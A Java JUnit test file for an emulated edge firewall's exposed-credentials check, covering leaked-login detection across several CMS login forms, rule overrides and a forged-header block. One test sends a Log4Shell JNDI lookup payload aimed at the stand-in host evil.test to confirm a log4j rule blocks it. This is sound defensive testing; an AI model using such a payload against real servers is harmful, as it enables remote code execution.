package dev.edgecase.phase.managed;

import static dev.edgecase.phase.managed.Managed.execute;
import static dev.edgecase.phase.managed.Managed.executing;
import static dev.edgecase.phase.managed.Managed.told;
import static org.assertj.core.api.Assertions.assertThat;

import dev.edgecase.http.Body;
import dev.edgecase.http.Headers;
import dev.edgecase.testkit.InMemoryEdge;
import dev.edgecase.testkit.InMemoryEdge.Answer;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ExposedCredentialsTest {
    private static final String CHECK = "c2e184081120413c86c3ab7e14069605";
    private static final String HEADER = "Exposed-Credential-Check";
    private static final String FORM = "application/x-www-form-urlencoded";
    private static final String LEAKED = "username=CF_EXPOSED_USERNAME&password=CF_EXPOSED_PASSWORD";

    private static Answer post(InMemoryEdge edge, String target, String type, String body) {
        var bytes = Body.of(body.getBytes(StandardCharsets.UTF_8));
        return edge.send("POST", target, Headers.of("Content-Type", type), bytes);
    }

    private static boolean isTold(Answer answer) {
        return answer.received()
                .filter(got -> got.headers().first(HEADER).filter("1"::equals).isPresent())
                .isPresent();
    }

    @ParameterizedTest(name = "{0} {2}: {3}")
    @CsvSource(delimiter = '|', quoteCharacter = '"', textBlock = """
            /wp-login.php                  | application/x-www-form-urlencoded | log=CF_EXPOSED_USERNAME&pwd=CF_EXPOSED_PASSWORD                    | ec-login-wordpress
            /administrator/index.php       | application/x-www-form-urlencoded | username=CF_EXPOSED_USERNAME&passwd=CF_EXPOSED_PASSWORD            | ec-login-joomla
            /user/login                    | application/x-www-form-urlencoded | name=CF_EXPOSED_USERNAME&pass=CF_EXPOSED_PASSWORD                  | ec-login-drupal
            /login                         | application/x-www-form-urlencoded | __ac_name=CF_EXPOSED_USERNAME&__ac_password=CF_EXPOSED_PASSWORD    | ec-login-plone
            /customer/account/loginPost/   | application/x-www-form-urlencoded | login%5Busername%5D=CF_EXPOSED_USERNAME&login[password]=CF_EXPOSED_PASSWORD | ec-login-magento
            /ghost/api/admin/session/      | application/json                  | {"username":"CF_EXPOSED_USERNAME","password":"CF_EXPOSED_PASSWORD"} | ec-login-ghost
            /session                       | application/json                  | {"username":"CF_EXPOSED_USERNAME","password":"CF_EXPOSED_PASSWORD"} | ec-login-json-username
            /session                       | application/json                  | {"email":"CF_EXPOSED_USERNAME@example.com","password":"CF_EXPOSED_PASSWORD"} | ec-login-json-email
            /login                         | application/x-www-form-urlencoded | username=CF_EXPOSED_USERNAME%40example.com&password=CF_EXPOSED_PASSWORD | ec-login-form
            /owa/auth.owa                  | application/x-www-form-urlencoded | destination=x&flags=4&username=CF_EXPOSED_USERNAME&password=CF_EXPOSED_PASSWORD | ec-login-form
            /login                         | application/x-www-form-urlencoded | username=CF_EXPOSED_USERNAME@example.org&password=CF_EXPOSED_PASSWORD | none
            /login                         | application/x-www-form-urlencoded | username=CF_EXPOSED_USERNAME&password=CF_EXPOSED_PASSWORD1         | none
            /login                         | application/x-www-form-urlencoded | username=ann&password=CF_EXPOSED_PASSWORD                          | none
            /login                         | text/plain                        | username=CF_EXPOSED_USERNAME&password=CF_EXPOSED_PASSWORD          | none
            """)
    void the_origin_is_told_of_pairs_that_are_leaked(String target, String type, String body, String rule) {
        var answer = post(executing(CHECK, ""), target, type, body);

        assertThat(told(answer)).isEqualTo(rule.equals("none") ? "200" : "200 rewrite " + rule);
        assertThat(isTold(answer)).isEqualTo(!rule.equals("none"));
    }

    @ParameterizedTest(name = "{0}: {1}, told {2}")
    @CsvSource(delimiter = '|', quoteCharacter = '"', textBlock = """
            {'action':'block'}                                                                   | 403 block ec-login-form            | false
            {'action':'log'}                                                                     | 200 log ec-login-form              | false
            {'action':'challenge'}                                                               | 403 challenge ec-login-form        | false
            {'action':'js_challenge'}                                                            | 403 jschallenge ec-login-form      | false
            {'action':'managed_challenge'}                                                       | 403 managedChallenge ec-login-form | false
            {'action':'rewrite'}                                                                 | 200 rewrite ec-login-form          | true
            {'enabled':false}                                                                    | 200                                | false
            {'action':'log','rules':[{'id':'ec-login-form','action':'rewrite'}]}                 | 200 rewrite ec-login-form          | true
            {'action':'log','rules':[{'id':'ec-login-drupal','action':'rewrite'}]}               | 200 log ec-login-form              | false
            {'rules':[{'id':'ec-login-form','action':'block'}]}                                  | 403 block ec-login-form            | false
            """)
    void rules_can_be_told_to_do_something_else(String overrides, String wanted, boolean isTold) {
        var answer = post(executing(CHECK, overrides), "/login", FORM, LEAKED);

        assertThat(told(answer)).isEqualTo(wanted);
        assertThat(isTold(answer)).isEqualTo(isTold);
    }

    @Test
    void who_brings_the_header_along_is_blocked() {
        var forged = Headers.of(HEADER, "0", "Content-Type", FORM);

        assertThat(told(executing(CHECK, "").send("GET", "/", forged, Body.EMPTY)))
                .isEqualTo("403 block ec-login-header");
        assertThat(told(executing(CHECK, "{'action':'rewrite'}").send("GET", "/", forged, Body.EMPTY)))
                .isEqualTo("403 block ec-login-header");
        assertThat(told(executing(CHECK, "{'rules':[{'id':'ec-login-header','action':'log'}]}")
                        .send("GET", "/", forged, Body.EMPTY)))
                .isEqualTo("200 log ec-login-header");
        assertThat(told(InMemoryEdge.standard().send("GET", "/", forged, Body.EMPTY)))
                .isEqualTo("200");
    }

    @Test
    void what_is_given_to_a_visitor_is_none_of_its_business() {
        var answer = executing(CHECK, "")
                .from("127.0.0.1")
                .get(
                        "/",
                        "Edgecase-Visitor",
                        "ip=203.0.113.7; cf.waf.credential_check.username_and_password_leaked=true");

        assertThat(told(answer)).isEqualTo("200");
    }

    @Test
    void the_rulesets_behind_it_are_run_and_may_block() {
        var edge = Managed.edge(execute(CHECK, ""), execute(Managed.FREE, ""));

        assertThat(told(post(edge, "/login?q=${jndi:ldap://evil.test/a}", FORM, LEAKED)))
                .isEqualTo("403 rewrite ec-login-form block ec-log4j");
    }

    @Test
    void the_words_of_a_block_say_which_field_it_was() {
        var answer = post(executing(CHECK, "{'action':'block'}"), "/login", FORM, LEAKED);

        assertThat(answer.journey().ruling().reason())
                .contains("rule ec-login-form of the Cloudflare Exposed Credentials Check")
                .contains("in the field username");
    }
}
